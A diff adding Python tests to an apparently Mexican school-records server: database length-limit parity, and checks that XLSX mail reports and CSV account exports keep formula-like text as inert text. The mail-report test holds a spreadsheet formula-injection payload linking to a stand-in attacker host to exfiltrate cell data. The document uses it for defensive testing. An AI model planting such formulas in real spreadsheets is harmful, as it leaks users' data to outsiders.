@@ -272,3 +272,60 @@ def test_sae_text_that_looks_like_a_formula_is_stored_verbatim_and_exported_as_t
     for evil in FORMULA_TEXT:
         assert evil.strip() in values and values[evil.strip()].data_type == "s", evil
     assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
+
+
+# ------------------------------------------------------------------ length parity
+
+
+def test_a_string_longer_than_its_column_is_the_same_422_on_both_databases(server):
+    """PostgreSQL raised DataError (a 500) and SQLite stored the whole string; now both refuse
+    before the statement is sent, naming the field, and nothing is written."""
+    from datetime import datetime, timezone
+
+    from server.errors import ApiError
+
+    m = matricula(1, 651)
+    record = SaeRecord(matricula=m, curp="TEMG080312HDFLRBA3", first_names="ANA", first_surname="LÓPEZ",
+                       campus_code="001", group_code="G" * 41, enrolled=True, imported_at=datetime.now(timezone.utc))
+    with server.db() as s:
+        s.add(record)
+        with pytest.raises(ApiError) as caught:
+            s.commit()
+        s.rollback()
+    assert caught.value.status == 422 and caught.value.field == "group_code"
+    assert caught.value.message == "El campo «group_code» admite como máximo 40 caracteres (se recibieron 41)."
+    with server.db() as s:
+        assert s.get(SaeRecord, m) is None
+        record.group_code = "G" * 40  # at the limit: stored on both
+        s.merge(record)
+        s.commit()
+        assert len(s.get(SaeRecord, m).group_code) == 40
+
+
+def test_mail_report_writes_names_and_bounce_diagnostics_as_text():
+    """A remote server's bounce diagnostic and the campaign's name are outside text."""
+    from types import SimpleNamespace
+
+    from server.mail.report import COLUMNS, report_xlsx
+
+    evil = '=HYPERLINK("http://evil.example/?d="&A2,"clic")'
+    campaign = SimpleNamespace(name=evil, id=7)
+    summary = {"counts": {}, "bounced": {}, "total": 1}
+    row = ("fila 2", "990010001-0", "001", "a@b.mx", "Rebotado", "Permanente", "5.1.1", evil)
+    assert len(row) == len(COLUMNS)
+    book = load_workbook(io.BytesIO(report_xlsx(campaign, summary, [row])))
+    cells = [c for ws in book.worksheets for r in ws.iter_rows() for c in r]
+    assert sum(c.value == evil for c in cells) == 2
+    assert all(c.data_type != "f" for c in cells)
+
+
+def test_accounts_csv_neutralises_formula_text_but_never_the_password():
+    from server.accounts.exports.common import FileSpec, csv_cell, write_csv
+
+    assert csv_cell("=1+1") == "'=1+1" and csv_cell("+52") == "'+52" and csv_cell("-x") == "'-x"
+    assert csv_cell("@A") == "'@A" and csv_cell("\tT") == "'\tT" and csv_cell("Ana") == "Ana"
+    spec = FileSpec(name="prueba", header=("Nombre", "Contraseña"), required=(), max_rows=10,
+                    password_column="Contraseña")
+    (produced,) = write_csv(spec, [{"Nombre": "=HYPERLINK(1)", "Contraseña": "=aB3#xyz9"}], "p")
+    line = produced.data.decode("utf-8").splitlines()[1]
+    assert line == "'=HYPERLINK(1),=aB3#xyz9"
